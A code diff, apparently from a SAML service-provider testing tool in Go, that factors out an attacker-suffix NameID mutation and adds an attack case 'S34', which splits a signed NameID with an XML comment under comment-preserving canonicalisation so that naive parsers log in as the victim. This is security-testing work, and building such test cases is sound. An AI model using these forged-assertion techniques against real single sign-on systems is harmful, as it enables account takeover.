@@ -494,11 +494,7 @@ func NameIDComment(v Victim, suffix string) Attack {
 		Oracle:        OracleAcceptsHonest,
 		StillVerifies: []SignedPart{{Name: "the assertion", Element: pathAssertion1, Signature: pathAssertion1Sig}},
 		Mutations: []Mutation{signWith(SignAssertion),
-			{Name: "nameid-attacker-suffix", Stage: BeforeSigning, Spec: func(s *ResponseSpec) {
-				if s.Assertion != nil {
-					s.Assertion.NameID = full
-				}
-			}},
+			nameIDSuffix(v, suffix),
 			commentIn("comment-in-nameid", "NameID", full, v.NameID)}}
 }
 
@@ -557,11 +553,7 @@ func NameIDSplitText(v Victim, suffix, how string) Attack {
 		References: []string{"CVE-2025-54419", "CVE-2025-54369"}, Oracle: OracleAcceptsHonest,
 		StillVerifies: []SignedPart{{Name: "the assertion", Element: pathAssertion1, Signature: pathAssertion1Sig}},
 		Mutations: []Mutation{signWith(SignAssertion),
-			{Name: "nameid-attacker-suffix", Stage: BeforeSigning, Spec: func(s *ResponseSpec) {
-				if s.Assertion != nil {
-					s.Assertion.NameID = full
-				}
-			}},
+			nameIDSuffix(v, suffix),
 			{Name: "nameid-" + how, Stage: RawBytes, Raw: raw}}}
 }
 
@@ -760,4 +752,52 @@ func DonorAssertion(v Victim, sp SPInfo, otherSP string) Attack {
 				resp.InsertChildAt(as.Index(), evil)
 				return nil
 			})}}
+}
+
+// SignedCommentWithComments is S34 (the .NET SafeCanonicalizationMethods
+// note, cited in jellyfin-plugin-sso #137): the NameID v.NameID+suffix
+// carries <!----> after v.NameID before signing, and the assertion is
+// signed with exclusive C14N #WithComments for both SignedInfo and the
+// Reference, so the comment itself is signed. An SP must refuse
+// comment-preserving canonicalisation, or read the full text; a reader of
+// the first text node sees the victim. The baseline signing step is
+// replaced (the trace says "not signed", then this signing).
+func SignedCommentWithComments(v Victim, suffix string, idp *Identity) Attack {
+	return Attack{ID: "S34", Title: "comment in NameID signed under exc-c14n#WithComments",
+		References:    []string{".NET SignedXml SafeCanonicalizationMethods", "jellyfin-plugin-sso #137", "CVE-2017-11427"},
+		Oracle:        OracleAcceptsHonest,
+		StillVerifies: []SignedPart{{Name: "the assertion signed with comments", Element: pathAssertion1, Signature: pathAssertion1Sig}},
+		Mutations: []Mutation{signWith(SignNone), nameIDSuffix(v, suffix),
+			{Name: "comment-in-nameid", Stage: BeforeSigning, Tree: func(doc *etree.Document) error {
+				_, as, err := responseParts(doc)
+				if err != nil {
+					return err
+				}
+				id := as.FindElement("saml:Subject/saml:NameID")
+				if id == nil || id.Text() != v.NameID+suffix || suffix == "" {
+					return fmt.Errorf("no saml:NameID %q to split after %q", v.NameID+suffix, v.NameID)
+				}
+				id.SetText(v.NameID)
+				id.CreateComment("")
+				id.CreateText(suffix)
+				return nil
+			}},
+			afterSigning("sign-assertion-with-comments", func(doc *etree.Document) error {
+				_, as, err := responseParts(doc)
+				if err != nil {
+					return err
+				}
+				ctx, err := SignOptions{Identity: idp}.signingContext()
+				if err != nil {
+					return err
+				}
+				ctx.Canonicalizer = dsig.MakeC14N10ExclusiveWithCommentsCanonicalizerWithPrefixList("")
+				return signElement(ctx, as, false)
+			})}}
+}
+
+// nameIDSuffix signs the NameID v.NameID+suffix: an account the attacker
+// may register, whose value starts with the victim's.
+func nameIDSuffix(v Victim, suffix string) Mutation {
+	return specEdit("nameid-attacker-suffix", func(_ *ResponseSpec, a *AssertionSpec) { a.NameID = v.NameID + suffix })
 }
